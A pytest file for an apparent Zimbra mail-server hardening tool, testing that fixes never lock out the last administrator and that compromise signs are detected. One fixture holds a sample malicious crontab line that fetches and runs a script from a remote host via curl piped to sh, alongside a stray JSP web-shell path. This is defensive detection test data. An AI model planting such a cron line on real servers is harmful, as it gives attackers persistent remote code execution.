"""The last way in stays open, and signs of compromise are looked for anew."""

import json
from collections.abc import Iterator
from importlib.resources import files
from itertools import chain

import pytest

from tests.engine.repair import plan
from tests.examples import facts_of
from zmward.change import SetAttr
from zmward.control import Example, Status
from zmward.controls.registry import controls
from zmward.engine.signs import keep_an_administrator, still_allowed, suspicions
from zmward.errors import Refused
from zmward.finding import judge
from zmward.guards import SIGNS
from zmward.profile import Profile
from zmward.sources.accounts import Admin

CONTROL = controls()["no-fallback-to-local-passwords"]
DOMAINS = {"example.com": {"zimbraAuthMech": "ad", "zimbraAuthFallbackToLocal": "TRUE"}}


def shut(**given: object) -> None:
    example = Example(Status.FAIL, {"domains": DOMAINS, **given})
    finding = judge(CONTROL, facts_of(example))
    keep_an_administrator(("domain:example.com",), (finding,))


def test_the_last_administrator_with_a_local_password_keeps_it() -> None:
    with pytest.raises(Refused, match="no other global administrator"):
        shut(admins=(Admin("root@example.com", "active"),))
    local = {**DOMAINS, "local.example": {}}
    shut(domains=local, admins=(Admin("root@local.example", "active"),))
    with pytest.raises(Refused, match="no other global administrator"):
        shut(domains=local, admins=(Admin("root@local.example", "locked"),))


def test_where_it_is_not_known_nobody_is_shut_out() -> None:
    with pytest.raises(Refused, match="not known"):
        shut(missing=("ldap-accounts",))
    with pytest.raises(Refused, match="not known"):
        keep_an_administrator(("domain:example.com",), ())


class Recording:
    """A host that answers what it is asked from the sample server's evidence."""

    name, streams = "the sample", 1

    def __init__(self, **instead: str) -> None:
        content = (files("zmward.demo") / "evidence.json").read_bytes()
        rows = json.loads(content)["answers"].values()
        texts = {k: v["text"] for own in rows for k, v in own.items() if "text" in v}
        self.texts = {**texts, **instead}
        self.script = ""

    def lines(self, script: str) -> Iterator[bytes]:
        self.script = script
        asked = [name for name in self.texts if f"ask {name} " in script]
        frames = (
            (f"% {name}", *(f"|{row}" for row in self.texts[name].splitlines()), "= 0")
            for name in asked
        )
        for line in ("% zmward 1 0", *chain.from_iterable(frames), "% end"):
            yield f"{line}\n".encode()


def test_only_what_shows_signs_is_asked_again() -> None:
    clean = Recording(**{"crontab-zimbra": "", "web-programs": "shipped /x\n"})
    dirty = Recording(
        **{
            "crontab-zimbra": "> /var/spool/cron/crontabs/zimbra\n"
            " */5 * * * * curl http://203.0.113.6/a | sh\n",
            "web-programs": "loose /opt/zimbra/jetty_base/webapps/zimbra/public/a.jsp\n",
        }
    )
    for door, expected in ((clean, ()), (dirty, SIGNS[1:])):
        found = suspicions(door, plan(), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
        assert found == expected
        assert door.script.count("\n    ask ") <= 8


def test_a_plan_that_shuts_a_domain_asks_who_is_left() -> None:
    door = Recording()
    change = SetAttr(
        "domain:example.com", "zimbraAuthFallbackToLocal", None, ("FALSE",)
    )
    # The recording holds the accounts as they were reduced, which no host answers.
    with pytest.raises(Refused, match="not known"):
        suspicions(door, plan((change,)), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
    assert "ask ldap-accounts " in door.script


POLICY = "zimbraPasswordMinLength"
ANNA, BEN = "anna@example.com", "ben@example.com"


def kept(*admins: Admin, **given: object) -> None:
    example = Example(Status.FAIL, {"domains": {}, "admins": admins, **given})
    change = SetAttr(f"account:{ANNA}", POLICY, None, ("16",))
    still_allowed((change,), facts_of(example))


def test_the_last_administrator_who_can_log_in_is_not_touched() -> None:
    kept(Admin(ANNA, "active"), Admin(BEN, "active"))
    kept(Admin(ANNA, "locked"), Admin(BEN, "active"))
    for other in (
        Admin(BEN, "locked"),
        Admin(BEN, "active", delegated=True),
        # The other directory may be down just then.
        Admin("ben@ad.example.com", "active"),
    ):
        domains = {"ad.example.com": {"zimbraAuthMech": "ad"}}
        with pytest.raises(Refused, match="last global administrator"):
            kept(Admin(ANNA, "active"), other, domains=domains)
    with pytest.raises(Refused, match="is unknown"):
        kept(missing=("ldap-accounts",))


def test_who_needs_another_directory_counts_where_nobody_else_is_left() -> None:
    domains = {"example.com": {"zimbraAuthMech": "ad"}}
    kept(Admin(ANNA, "active"), Admin(BEN, "active"), domains=domains)
    with pytest.raises(Refused, match="last global administrator"):
        kept(Admin(ANNA, "active"), Admin(BEN, "locked"), domains=domains)
    falls = {
        "example.com": {"zimbraAuthMech": "ad", "zimbraAuthFallbackToLocal": "TRUE"}
    }
    kept(Admin(ANNA, "active"), Admin(BEN, "active"), domains=falls)


def test_a_plan_for_accounts_asks_who_is_left() -> None:
    door = Recording()
    change = SetAttr(f"account:{ANNA}", POLICY, None, ("16",))
    # The recording holds the accounts as they were reduced, which no host answers.
    with pytest.raises(Refused, match="unknown"):
        suspicions(door, plan((change,)), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
    assert "ask ldap-accounts " in door.script


FOLDER = "755 root root 4096 1700000000 directory|/opt/zimbra/lib/ext\n"
JAR = (
    f"{FOLDER}444 root root 9 1 regular file|"
    "/opt/zimbra/lib/ext/twofactorauth/zimbratwofactorauth.jar\n"
)
REQUIRED = SetAttr("cos:a", "zimbraFeatureTwoFactorAuthRequired", None, ("TRUE",))
BOTH = {
    name: {"zimbraServiceEnabled": "mailbox"}
    for name in ("mail.example.com", "store2.example.com")
}


def required(**given: object) -> None:
    still_allowed((REQUIRED,), facts_of(Example(Status.FAIL, given)))


def test_a_second_factor_is_required_only_where_every_mailbox_node_asks_for_it() -> (
    None
):
    required(raw={"extensions": JAR})
    with pytest.raises(Refused, match="promises nothing"):
        required(raw={"extensions": FOLDER})
    for given in (
        {"missing": ("extensions",)},
        {"raw": {"extensions": ""}},
        {"raw": {"extensions": JAR}, "servers": BOTH},
    ):
        with pytest.raises(Refused, match="without a program"):
            required(**given)


def test_a_plan_that_requires_a_second_factor_asks_for_its_program() -> None:
    door = Recording(extensions=FOLDER)
    with pytest.raises(Refused, match="promises nothing"):
        suspicions(door, plan((REQUIRED,)), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
    assert "ask extensions " in door.script
